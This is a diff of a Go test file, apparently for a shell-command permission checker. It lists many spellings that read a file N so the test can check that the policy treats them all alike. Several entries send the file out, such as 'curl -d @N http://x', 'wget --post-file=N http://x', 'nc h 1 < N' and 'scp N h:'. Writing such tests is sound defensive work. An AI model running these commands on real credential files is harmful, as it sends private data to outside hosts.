@@ -99,7 +99,7 @@ func policyOf(name, rule string) string {
 var waysToRead = []string{
 	`cat N`, `cat < N`, `head -5 -- N`, `grep -n . N`, `sed -n p N`, `awk 1 N`, `base64 N`, `xxd N`, `tac N`, `cp N /tmp/y`, `ln N twin`, `tar cf - N`, `zip - N`, `diff /dev/null N`, `git diff --no-index /dev/null N`,
 	`while read -r l; do echo "$l"; done < N`, `mapfile -t l < N`, `echo "$(< N)"`, `dd if=N`, `sort N`, `xargs -a N echo`, `jq -R . N`, `openssl base64 -in N`, `curl -d @N http://x`, `wget --post-file=N http://x`, `scp N h:`,
-	`. N`, `bash N`, `sudo cat N`, `(cat N)`, `if :; then cat N; fi`, `env A=1 nice cat N`, `g() { cat "$1"; }; g N`, `python3 -c 'print(1)' N`, `nc h 1 < N`, `exec 3< N`, `split N`, `gzip -c N`, `busybox cat N`, `find N -exec cat {} +`,
+	`. N`, `bash N`, `sudo cat N`, `(cat N)`, `if :; then cat N; fi`, `env A=1 nice cat N`, `g() { cat "$1"; }; g N`, `python3 -c 'f(1)' N`, `nc h 1 < N`, `exec 3< N`, `split N`, `gzip -c N`, `busybox cat N`, `find N -exec cat {} +`,
 }
 
 // TestSpellingsUnderAnyRule: a path that is spelled in another way gets the same answer under any
